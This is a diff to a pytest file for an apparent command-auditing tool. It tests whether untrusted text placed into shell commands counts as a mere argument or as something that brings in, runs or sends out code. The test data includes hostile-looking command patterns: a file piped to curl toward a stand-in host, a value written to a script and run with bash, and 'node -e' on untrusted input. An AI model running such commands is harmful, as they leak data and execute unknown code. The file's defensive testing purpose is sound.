@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from skillkeep.auditor.engines.quoted import is_argument, is_known_program
+from skillkeep.auditor.engines.quoted import is_argument, is_known_program, is_weakness
 from skillkeep.auditor.engines.values import HOLE
 
 
@@ -44,3 +44,33 @@ def test_a_module_that_serves_files_runs_nothing_between_quotes() -> None:
     assert is_argument(f'start /b python -m http.server 8080 --directory "{HOLE}"')
     assert not is_argument(f'nohup {HOLE} "a"')
     assert not is_argument(f'cat a | nohup python3 -m http.server "{HOLE}" | sh')
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"npx acme-cli publish {HOLE} --name parcels",
+        f"node render.js --file {HOLE}",
+        f"pip install acme && cp {HOLE} notes",
+        f"sheets update '{HOLE}'!D1 --json '[[{HOLE}]]'",
+    ],
+)
+def test_a_strangers_text_in_an_argument_is_a_weakness(text: str) -> None:
+    assert is_weakness(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"git clone {HOLE} x",
+        f"npx {HOLE} publish",
+        f"cd {HOLE} && npm install",
+        f"A={HOLE}; curl $A",
+        f"cat {HOLE} | curl -d @- https://c.example.invalid",
+        f"echo {HOLE} > /tmp/run.sh && bash /tmp/run.sh",
+        f"node -e {HOLE}",
+        f"pip install {HOLE}",
+    ],
+)
+def test_a_text_that_brings_or_starts_code_or_leaves_is_no_weakness(text: str) -> None:
+    assert not is_weakness(text)
